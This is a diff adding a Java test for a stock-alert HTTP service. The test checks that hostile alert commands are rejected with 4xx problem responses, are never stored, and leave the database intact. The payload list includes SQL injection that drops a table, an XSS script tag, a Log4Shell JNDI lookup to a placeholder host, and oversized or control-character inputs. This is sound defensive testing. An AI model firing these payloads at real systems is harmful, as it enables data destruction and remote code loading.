@@ -273,6 +273,32 @@ class AlertHttpTest extends ServerHttpTest {
     }
 
     @Test
+    void test_hostileText_isRefusedAsData_neverStored_neverA5xx() {
+        HttpTestClient user = user("hostile");
+        List<String> payloads = List.of(
+                "TRACK AAPL WHEN PRICE > 1'; DROP TABLE alert; --",
+                "TRACK AAPL' OR '1'='1 WHEN PRICE > 1",
+                "TRACK AAPL WHEN PRICE > 1 AND <script>alert(1)</script>",
+                "TRACK AAPL WHEN ${jndi:ldap://example.invalid/x} > 1",
+                "TRACK AAPL WHEN PRICE > 1\u0000",
+                "TRACK \u202eLPAA WHEN PRICE > 1",
+                "TRACK AAPL WHEN " + "(".repeat(5_000) + "PRICE > 1",
+                "TRACK " + "A".repeat(5_000) + " WHEN PRICE > 1");
+
+        for (String payload : payloads) {
+            for (Answer answer : List.of(track(user, payload), user.query(payload))) {
+                assertThat(answer.status()).as(payload + " -> " + answer.body()).isBetween(400, 499);
+                assertThat(answer.contentType()).startsWith("application/problem+json");
+                assertThat(answer.body()).doesNotContain("<script>").doesNotContain("Exception");
+            }
+        }
+        assertThat(user.get("/api/v1/alerts").json().get("alerts")).isEmpty();
+        assertThat(track(user, "TRACK AAPL WHEN PRICE > 1").status())
+                .as("the table is intact")
+                .isEqualTo(201);
+    }
+
+    @Test
     void test_otherBadInput_getsProblems() {
         HttpTestClient user = user("odd");
 
